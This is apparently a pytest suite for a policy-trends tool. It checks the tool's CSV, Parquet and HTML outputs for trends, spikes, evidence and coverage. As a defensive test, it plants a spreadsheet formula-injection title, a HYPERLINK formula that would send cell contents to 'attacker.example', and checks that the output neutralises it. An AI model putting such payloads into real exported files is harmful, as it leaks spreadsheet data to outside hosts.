"""Every trend output, built from a small store made through the store's own API.

The store: source ``alpha`` publishes every month of 2022 and the first half of 2023 (with a
planted rise of ``cyber`` in April 2023) and once today; ``beta`` was last crawled on
2023-03-10; ``nodates`` has no publication dates at all. Titles, a theme and a source name
start with formula characters, and titles hold commas, quotes and newlines.
"""

from __future__ import annotations

import csv
import json
import math
import re
from datetime import UTC, date, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sqlalchemy as sa

from policytrends.corpus.hashing import text_hash
from policytrends.corpus.store import CorpusStore, Document, documents
from policytrends.errors import PolicyTrendsError
from policytrends.trends import outputs as S
from policytrends.trends.build import TABLES, build_outputs
from tests.helpers import documented_columns

EVIL_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")'
EVIL_THEME = '=HYPERLINK("t")'
EVIL_SOURCE = "@gamma"
TRICKY_TITLE = 'Deterrence, "extended" and\nre-examined: a "hard" look, part 2'
THEMES = ["cyber", "deterrence", EVIL_THEME]
CSV_NAMES = [csv_name for csv_name, _ in TABLES.values()]


def model_info(version: str = "v1", themes=THEMES) -> dict:
    per = {t: {"precision": 0.85, "recall": 0.9, "f1": 0.87, "support": 60, "tpr": 0.9, "fpr": 0.05, "negatives": 240}
           for t in themes}
    return {"version": version, "themes": list(themes), "metrics": {"heldout": {"per_theme": per, "passages": 300}}}


class StoreBuilder:
    """Documents with passages and one model version's predictions, through CorpusStore."""

    def __init__(self, path: Path):
        self.store = CorpusStore(f"sqlite:///{path}")
        self.count = 0

    def add(self, source: str, published: date | None, passages: list[dict[str, float]], title: str | None = None,
            versions: tuple[str, ...] = ("v1",), text: str | None = None) -> int:
        """``passages``: one {theme: probability} per passage; label = probability >= 0.5."""
        self.count += 1
        url = f"https://{source.strip('@=')}.example/a/{self.count}"
        body = "\n".join(f"Passage {self.count}.{i}: {text or 'policy, with commas and quotes'}" for i in range(len(passages)))
        self.store.upsert_document(Document(url=url, canonical_url=url, source=source, title=title or f"Article {self.count}",
                                            authors=[], published=published, body=body, content_hash=f"h{self.count}",
                                            content_type="text/html", extraction_method="test"))
        with self.store.engine.connect() as conn:
            doc_id = conn.execute(sa.select(documents.c.id).where(documents.c.canonical_url == url)).scalar_one()
        texts = body.split("\n")
        hashes = [text_hash(t) for t in texts]
        self.store.replace_passages(doc_id, texts, hashes, f"h{self.count}")
        for version in versions:
            self.store.save_predictions(version, [(h, theme, p, p >= 0.5) for h, probs in zip(hashes, passages, strict=True)
                                                  for theme, p in probs.items()])
        return doc_id

    def set_fetched(self, source: str, when: datetime) -> None:
        with self.store.engine.begin() as conn:
            conn.execute(documents.update().where(documents.c.source == source).values(fetched_at=when))


def _passages(n: int, cyber: int, rng, deterrence: int = 0, evil: int = 0) -> list[dict[str, float]]:
    out = []
    for i in range(n):
        out.append({"cyber": 0.9 - 0.01 * i if i < cyber else 0.1, "deterrence": 0.8 if i < deterrence else 0.2,
                    EVIL_THEME: 0.7 if (i < evil or i < cyber // 2) else 0.3})
    rng.shuffle(out)
    return out


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("trends")
    b = StoreBuilder(tmp / "corpus.sqlite")
    rng = np.random.default_rng(0)
    months = pd.period_range("2022-01", "2023-06", freq="M")
    for m in months:
        day = m.to_timestamp().date()
        cyber = 15 if str(m) == "2023-04" else 2 + int(m.month % 2)  # the planted rise
        b.add("alpha", day.replace(day=3), _passages(12, cyber // 2 + cyber % 2, rng, deterrence=3))
        b.add("alpha", day.replace(day=17), _passages(12, cyber // 2, rng, deterrence=2),
              title=EVIL_TITLE if str(m) == "2023-04" else None)
    b.add("alpha", datetime.now(UTC).date(), _passages(6, 2, rng, deterrence=1))
    b.add("beta", date(2023, 2, 8), _passages(5, 1, rng, deterrence=4), title=TRICKY_TITLE)
    b.add("beta", date(2023, 3, 9), _passages(5, 0, rng, deterrence=5))
    b.set_fetched("beta", datetime(2023, 3, 10, 12, 0, tzinfo=UTC))
    b.add("nodates", None, _passages(4, 4, rng))
    b.add("nodates", None, _passages(3, 0, rng))
    b.add(EVIL_SOURCE, date(2022, 6, 1), _passages(3, 1, rng, evil=3))
    out = tmp / "outputs"
    summary = build_outputs(b.store, model_info(), out)
    return {"builder": b, "out": out, "summary": summary, "tmp": tmp}


def _read(out: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(out / name, dtype={"period": str, "year": str}, keep_default_na=True)


# --------------------------------------------------------------------------- files and documentation
def test_every_table_is_written_as_csv_and_parquet_and_documented(built):
    documented = documented_columns()
    for csv_name, parquet_name in TABLES.values():
        frame = _read(built["out"], csv_name)
        parquet = pd.read_parquet(built["out"] / parquet_name)
        assert list(frame.columns) == list(parquet.columns), csv_name
        assert len(frame) == len(parquet), csv_name
        assert csv_name in documented, f"{csv_name} has no section in outputs/README.md"
        assert documented[csv_name] == list(frame.columns), f"outputs/README.md does not list the columns of {csv_name} in order"
    for name in (S.THEME_SHARE_CHART, S.THEME_SHARE_BY_SOURCE_CHART, S.THEME_SHARE_RECENT_CHART, S.TRENDS_REPORT):
        assert (built["out"] / name).stat().st_size > 5_000, name
        assert name in documented, f"{name} has no section in outputs/README.md"
    assert built["summary"]["tables"] == {name: len(_read(built["out"], name)) for name in CSV_NAMES}


def test_csv_and_parquet_hold_the_same_data(built):
    for csv_name, parquet_name in TABLES.values():
        frame = _read(built["out"], csv_name)
        parquet = pd.read_parquet(built["out"] / parquet_name)
        for col in frame.columns:
            if pd.api.types.is_numeric_dtype(frame[col]) and pd.api.types.is_numeric_dtype(parquet[col]):
                np.testing.assert_allclose(frame[col].to_numpy(float), parquet[col].to_numpy(float), err_msg=col)


# --------------------------------------------------------------------------- spreadsheet safety
def test_formula_cells_are_neutralised_in_every_csv(built):
    for name in CSV_NAMES:
        with open(built["out"] / name, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        cells = [c for row in rows for c in row]
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only numbers, such as a negative change, may start like a formula
        # Each table carries one of the hostile names and shows it quoted.
        assert any(c.startswith("'=HYPERLINK(") or c.startswith("'@") for c in cells), name
    evidence = _read(built["out"], S.THEME_EVIDENCE)
    assert ("'" + EVIL_TITLE) in set(evidence["title"])
    parquet = pd.read_parquet(built["out"] / S.THEME_EVIDENCE_PARQUET)
    assert EVIL_TITLE in set(parquet["title"])  # Parquet keeps the text as it is


def test_commas_quotes_and_newlines_round_trip(built):
    evidence = _read(built["out"], S.THEME_EVIDENCE)
    assert TRICKY_TITLE in set(evidence["title"])
    assert evidence["text"].str.contains('policy, with commas and quotes').all()
    with open(built["out"] / S.THEME_EVIDENCE, newline="", encoding="utf-8") as f:
        header = next(csv.reader(f))
    assert header[0] == "granularity"


# --------------------------------------------------------------------------- trend tables
def test_monthly_table_keeps_its_columns_first_and_adds_the_new_ones(built):
    monthly = _read(built["out"], S.THEME_TRENDS_MONTHLY)
    assert list(monthly.columns[:11]) == ["period", "source", "theme", "passages", "documents", "theme_passages",
                                          "theme_documents", "share", "doc_share", "mean_probability", "model_version"]
    assert list(monthly.columns[11:]) == ["prevalence", "prevalence_low", "prevalence_high", "complete", "period_start",
                                          "period_end", "error_rates_from"]
    assert set(monthly["model_version"]) == {"v1"}
    assert set(monthly["source"]) == {"alpha", "beta", "'" + EVIL_SOURCE, "ALL"}  # nodates has no dated document
    row = monthly[(monthly["period"] == "2023-04") & (monthly["source"] == "alpha") & (monthly["theme"] == "cyber")].iloc[0]
    assert (row["passages"], row["documents"], row["theme_passages"], row["theme_documents"]) == (24, 2, 15, 2)
    assert row["share"] == pytest.approx(15 / 24, abs=1e-4)
    # (share - fpr) / (tpr - fpr), inside its interval
    assert row["prevalence"] == pytest.approx((15 / 24 - 0.05) / 0.85, abs=1e-4)
    assert row["prevalence_low"] < row["prevalence"] < row["prevalence_high"]
    assert (row["period_start"], row["period_end"]) == ("2023-04-01", "2023-04-30")
    valued = monthly.dropna(subset=["prevalence"])
    assert ((valued["prevalence_low"] >= 0) & (valued["prevalence_low"] <= valued["prevalence"])
            & (valued["prevalence"] <= valued["prevalence_high"]) & (valued["prevalence_high"] <= 1)).all()


def test_all_rows_sum_the_sources(built):
    for name in (S.THEME_TRENDS_MONTHLY, S.THEME_TRENDS_WEEKLY):
        table = _read(built["out"], name)
        parts = table[table["source"] != "ALL"].groupby(["period", "theme"])[["passages", "documents", "theme_passages"]].sum()
        whole = table[table["source"] == "ALL"].set_index(["period", "theme"])[parts.columns]
        pd.testing.assert_frame_equal(whole.sort_index(), parts.reindex(whole.index, fill_value=0).sort_index(),
                                      check_dtype=False)


def test_weekly_table_uses_iso_weeks(built):
    weekly = _read(built["out"], S.THEME_TRENDS_WEEKLY)
    beta = weekly[(weekly["source"] == "beta") & (weekly["theme"] == "cyber")]
    # 2023-02-08 is a Wednesday of ISO week 6; 2023-03-09 a Thursday of week 10.
    assert beta["period"].tolist() == ["2023-W06", "2023-W07", "2023-W08", "2023-W09", "2023-W10"]
    assert beta["passages"].tolist() == [5, 0, 0, 0, 5]
    assert beta.iloc[0][["period_start", "period_end"]].tolist() == ["2023-02-06", "2023-02-12"]
    assert math.isnan(beta.iloc[1]["share"]) and math.isnan(beta.iloc[1]["prevalence"])


def test_complete_is_false_for_the_period_in_progress_and_after_the_last_crawl(built):
    monthly = _read(built["out"], S.THEME_TRENDS_MONTHLY)
    status = monthly.drop_duplicates(["period", "source"]).set_index(["period", "source"])["complete"]
    this_month = datetime.now(UTC).strftime("%Y-%m")
    assert not status[(this_month, "alpha")] and not status[(this_month, "ALL")]
    assert status[("2023-04", "alpha")]
    assert status[("2023-02", "beta")] and status[("2023-02", "ALL")]
    assert not status[("2023-03", "beta")]  # beta was last crawled on 2023-03-10
    assert not status[("2023-03", "ALL")] and not status[("2023-04", "ALL")]  # ALL waits for every source
    coverage = _read(built["out"], S.SOURCE_COVERAGE)
    assert not coverage[(coverage["source"] == "beta") & (coverage["period"] == "2023-03")]["complete"].iloc[0]


# --------------------------------------------------------------------------- spikes, evidence, co-occurrence
def test_planted_spike_is_in_the_spikes_table_with_its_evidence(built):
    spikes = _read(built["out"], S.THEME_SPIKES)
    found = spikes[(spikes["granularity"] == "month") & (spikes["theme"] == "cyber")]
    assert set(zip(found["period"], found["source"], found["direction"], strict=True)) >= {("2023-04", "alpha", "up")}
    evidence = _read(built["out"], S.THEME_EVIDENCE)
    rows = evidence[(evidence["granularity"] == "month") & (evidence["period"] == "2023-04") & (evidence["source"] == "alpha")
                    & (evidence["theme"] == "cyber")]
    assert rows["rank"].tolist() == [1, 2, 3]
    assert rows["probability"].tolist() == sorted(rows["probability"], reverse=True)
    assert rows["probability"].iloc[0] == 0.9
    assert set(rows["document_source"]) == {"alpha"}
    assert rows["url"].str.startswith("https://alpha.example/a/").all()
    assert rows["published"].str.match(r"2023-04-\d\d$").all()


def test_evidence_text_is_cut_to_300_characters(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("alpha", date(2024, 5, 2), [{"cyber": 0.95}, {"cyber": 0.9}, {"cyber": 0.2}], text="word " * 200)
    build_outputs(b.store, model_info(themes=["cyber"]), tmp_path / "out")
    evidence = _read(tmp_path / "out", S.THEME_EVIDENCE)
    month = evidence[(evidence["granularity"] == "month") & (evidence["source"] == "alpha")]
    assert month["probability"].tolist() == [0.95, 0.9]  # only tagged passages, best first
    assert (month["text"].str.len() == 300).all() and month["text"].str.endswith("…").all()


def test_cooccurrence_counts_passages_and_documents_per_year(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    both, cyber_only, none = {"cyber": 0.9, "deterrence": 0.9}, {"cyber": 0.9, "deterrence": 0.1}, {"cyber": 0.1, "deterrence": 0.1}
    b.add("a", date(2021, 3, 1), [both, cyber_only, none])
    b.add("a", date(2021, 7, 1), [cyber_only, {"cyber": 0.1, "deterrence": 0.9}])  # both themes, in different passages
    b.add("b", date(2022, 1, 5), [none])
    build_outputs(b.store, model_info(themes=["cyber", "deterrence"]), tmp_path / "out")
    co = _read(tmp_path / "out", S.THEME_COOCCURRENCE)
    assert co[["year", "theme_a", "theme_b"]].values.tolist() == [["2021", "cyber", "deterrence"], ["2022", "cyber", "deterrence"]]
    y = co.iloc[0]
    assert (y["passages"], y["passages_a"], y["passages_b"], y["passages_both"]) == (5, 3, 2, 1)
    assert y["passage_jaccard"] == pytest.approx(1 / 4)
    assert (y["documents"], y["documents_a"], y["documents_b"], y["documents_both"]) == (2, 2, 2, 2)
    assert y["document_jaccard"] == 1.0
    assert co.iloc[1][["passages", "passages_both", "documents"]].tolist() == [1, 0, 1]
    assert math.isnan(co.iloc[1]["passage_jaccard"])


def test_source_coverage_shows_gaps_and_undated_documents(built):
    coverage = _read(built["out"], S.SOURCE_COVERAGE)
    beta = coverage[coverage["source"] == "beta"]
    assert beta["period"].tolist() == ["2023-02", "2023-03"]
    assert beta["documents"].tolist() == [1, 1] and beta["passages"].tolist() == [5, 5]
    assert beta.iloc[0][["source_first_published", "source_last_published"]].tolist() == ["2023-02-08", "2023-03-09"]
    assert beta.iloc[0]["last_crawled"] == "2023-03-10T12:00:00Z"
    alpha = coverage[coverage["source"] == "alpha"]
    assert (alpha[alpha["period"] == "2023-07"]["documents"] == 0).all()  # a gap: no documents, not a drop
    undated = coverage[coverage["source"] == "nodates"]
    assert undated["period"].isna().all() and undated["documents"].tolist() == [2] and undated["passages"].tolist() == [7]
    assert any("'nodates'" in w and "none of its 2 documents" in w for w in built["summary"]["warnings"])
    assert built["summary"]["undated_documents"] == 2


# --------------------------------------------------------------------------- report
def test_report_is_self_contained_and_escaped(built):
    html = (built["out"] / S.TRENDS_REPORT).read_text(encoding="utf-8")
    assert html.count('src="data:image/png;base64,') == 3
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:|//)""", html, flags=re.I)
    assert "<script" not in html.lower() and "<link" not in html.lower() and "@import" not in html
    assert "default-src 'none'" in html
    assert "cyber: rise in alpha, month 2023-04" in html
    assert "=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A1" in html  # shown as text, escaped


# --------------------------------------------------------------------------- bad input
def test_empty_store_gives_a_clear_error(tmp_path):
    store = CorpusStore(f"sqlite:///{tmp_path / 'empty.sqlite'}")
    with pytest.raises(PolicyTrendsError, match=r"holds no passages yet.*policytrends run"):
        build_outputs(store, model_info(), tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_single_document(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("solo", date(2024, 2, 29), [{"cyber": 0.9, "deterrence": 0.1}, {"cyber": 0.2, "deterrence": 0.6}])
    summary = build_outputs(b.store, model_info(themes=["cyber", "deterrence"]), tmp_path / "out")
    out = tmp_path / "out"
    monthly = _read(out, S.THEME_TRENDS_MONTHLY)
    assert monthly[["period", "source", "theme", "passages", "theme_passages"]].values.tolist() == [
        ["2024-02", "solo", "cyber", 2, 1], ["2024-02", "solo", "deterrence", 2, 1],
        ["2024-02", "ALL", "cyber", 2, 1], ["2024-02", "ALL", "deterrence", 2, 1]]
    assert _read(out, S.THEME_TRENDS_WEEKLY)["period"].unique().tolist() == ["2024-W09"]
    assert _read(out, S.THEME_SPIKES).empty
    assert len(_read(out, S.THEME_COOCCURRENCE)) == 1
    assert len(_read(out, S.THEME_EVIDENCE)) == 2 * 2 * 2  # 2 themes x (week, month) x (solo, ALL)
    assert summary["rows"] == 4 and summary["sources"] == ["solo"]
    assert (out / S.TRENDS_REPORT).exists() and (out / S.THEME_SHARE_CHART).exists()


def test_store_where_no_document_has_a_date(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("undated", None, [{"cyber": 0.9}, {"cyber": 0.1}])
    out = tmp_path / "out"
    out.mkdir()
    (out / S.THEME_SHARE_CHART).write_bytes(b"a chart of an older store")
    summary = build_outputs(b.store, model_info(themes=["cyber"]), out)
    for name in (S.THEME_TRENDS_MONTHLY, S.THEME_TRENDS_WEEKLY, S.THEME_SPIKES, S.THEME_COOCCURRENCE, S.THEME_EVIDENCE):
        table = _read(out, name)
        assert table.empty and len(table.columns) > 5, name
    coverage = _read(out, S.SOURCE_COVERAGE)
    assert coverage["source"].tolist() == ["undated", "ALL"] and coverage["documents"].tolist() == [1, 1]
    assert not (out / S.THEME_SHARE_CHART).exists()  # no stale chart left behind
    assert "none of its 1 documents has a publication date" in summary["warnings"][0]
    report = (out / S.TRENDS_REPORT).read_text(encoding="utf-8")
    assert "No dated passages to chart" in report and not re.search(r"\bnan\b", report)


def test_a_date_in_the_future_is_treated_as_unknown(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("a", date(2024, 5, 2), [{"cyber": 0.9}])
    b.add("a", date(2099, 1, 1), [{"cyber": 0.9}])  # a misread date would stretch every table to 2099
    summary = build_outputs(b.store, model_info(themes=["cyber"]), tmp_path / "out")
    assert _read(tmp_path / "out", S.THEME_TRENDS_MONTHLY)["period"].unique().tolist() == ["2024-05"]
    assert summary["undated_documents"] == 1
    assert any(w.startswith("1 documents (a) are dated after") and "treated as undated" in w for w in summary["warnings"])
    coverage = _read(tmp_path / "out", S.SOURCE_COVERAGE)
    assert coverage[coverage["source"] == "a"]["period"].isna().sum() == 1


@pytest.mark.slow
def test_two_model_versions_are_never_mixed(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("a", date(2024, 1, 10), [{"cyber": 0.9}, {"cyber": 0.1}], versions=("v1", "v2"))
    b.add("a", date(2024, 2, 10), [{"cyber": 0.8}, {"cyber": 0.7}], versions=("v1", "v2"))
    for version in ("v1", "v2"):
        out = tmp_path / version
        build_outputs(b.store, model_info(version, themes=["cyber"]), out)
        for name in CSV_NAMES:
            table = _read(out, name)
            if "model_version" in table.columns and len(table):
                assert set(table["model_version"]) == {version}, name

    # A crawl after the last classification: v2 has not seen the new passages, v1 has.
    b.add("a", date(2024, 3, 10), [{"cyber": 0.9}, {"cyber": 0.9}, {"cyber": 0.1}], versions=("v1",))
    before = (tmp_path / "v2" / S.THEME_TRENDS_MONTHLY).read_bytes()
    with pytest.raises(PolicyTrendsError) as err:
        build_outputs(b.store, model_info("v2", themes=["cyber"]), tmp_path / "v2")
    assert str(err.value).startswith("3 of 7 passages have no predictions by model v2; they were classified by v1 (3) only. "
                                     "A trend table never mixes model versions")
    assert (tmp_path / "v2" / S.THEME_TRENDS_MONTHLY).read_bytes() == before  # the last good tables stay

    b.add("a", date(2024, 4, 10), [{"cyber": 0.9}], versions=())
    with pytest.raises(PolicyTrendsError, match=r"^1 of 8 passages have no predictions by model v1\. A trend table never mixes"):
        build_outputs(b.store, model_info("v1", themes=["cyber"]), tmp_path / "v1")


def test_a_version_with_no_predictions_at_all(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("a", date(2024, 1, 10), [{"cyber": 0.9}], versions=("v1",))
    with pytest.raises(PolicyTrendsError, match=r"no predictions by model v9 in the store \(run `policytrends run`"):
        build_outputs(b.store, model_info("v9", themes=["cyber"]), tmp_path / "out")


# --------------------------------------------------------------------------- incremental reads
@pytest.mark.slow
def test_a_rebuild_reads_only_new_predictions_and_gives_the_same_tables(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    rng = np.random.default_rng(3)
    for month in range(1, 7):
        b.add("a", date(2024, month, 5), _passages(6, 2, rng))
    out, fresh = tmp_path / "out", tmp_path / "fresh"
    first = build_outputs(b.store, model_info(), out)
    assert first["prediction_rows_read"] == 6 * 6 * 3
    assert build_outputs(b.store, model_info(), out)["prediction_rows_read"] == 0

    b.add("a", date(2024, 7, 5), _passages(4, 1, rng))
    again = build_outputs(b.store, model_info(), out)
    assert again["prediction_rows_read"] == 4 * 3
    build_outputs(b.store, model_info(), fresh, snapshot=False)
    for name in CSV_NAMES:
        assert (out / name).read_bytes() == (fresh / name).read_bytes(), name

    # A document updated upstream is cut into new passages: the tables follow it.
    doc = b.add("a", date(2024, 7, 20), _passages(3, 3, rng))
    b.store.replace_passages(doc, ["A rewritten passage."], [text_hash("A rewritten passage.")], "h-new")
    b.store.save_predictions("v1", [(text_hash("A rewritten passage."), t, 0.1, False) for t in THEMES])
    build_outputs(b.store, model_info(), out)
    build_outputs(b.store, model_info(), fresh, snapshot=False)
    for name in CSV_NAMES:
        assert (out / name).read_bytes() == (fresh / name).read_bytes(), name


@pytest.mark.slow
def test_a_snapshot_of_another_store_is_not_trusted(tmp_path):
    out = tmp_path / "out"
    first = StoreBuilder(tmp_path / "one.sqlite")
    first.add("a", date(2024, 1, 5), [{t: 0.9 for t in THEMES}])
    build_outputs(first.store, model_info(), out)
    # The state folder was wiped and the corpus crawled again: same version name, other rows.
    (tmp_path / "one.sqlite").unlink()
    again = StoreBuilder(tmp_path / "one.sqlite")
    again.add("b", date(2025, 1, 5), [{t: 0.1 for t in THEMES}, {t: 0.2 for t in THEMES}], text="other words")
    summary = build_outputs(again.store, model_info(), out)
    assert summary["prediction_rows_read"] == 2 * 3
    assert set(_read(out, S.THEME_TRENDS_MONTHLY)["source"]) == {"b", "ALL"}


@pytest.mark.slow
def test_a_snapshot_that_misses_passages_is_read_again(tmp_path):
    b = StoreBuilder(tmp_path / "c.sqlite")
    b.add("a", date(2024, 1, 5), [{t: 0.9 for t in THEMES}])
    out = tmp_path / "out"
    build_outputs(b.store, model_info(), out)
    b.add("a", date(2024, 2, 5), [{t: 0.1 for t in THEMES}])
    # Damage the snapshot's high-water mark so that it claims the new rows too.
    sidecar = next((out / S.PREDICTION_SNAPSHOTS).glob("*.json"))
    state = json.loads(sidecar.read_text())
    with b.store.engine.connect() as conn:
        top = conn.execute(sa.text("SELECT max(rowid) FROM predictions")).scalar()
        key = list(conn.execute(sa.text(f"SELECT text_hash, model_version, theme FROM predictions WHERE rowid = {top}")).first())
    sidecar.write_text(json.dumps({**state, "mark": {"rowid": top, "key": key}}))
    summary = build_outputs(b.store, model_info(), out)
    assert summary["prediction_rows_read"] == 2 * 3  # everything, read again
    assert _read(out, S.THEME_TRENDS_MONTHLY)["passages"].max() == 1
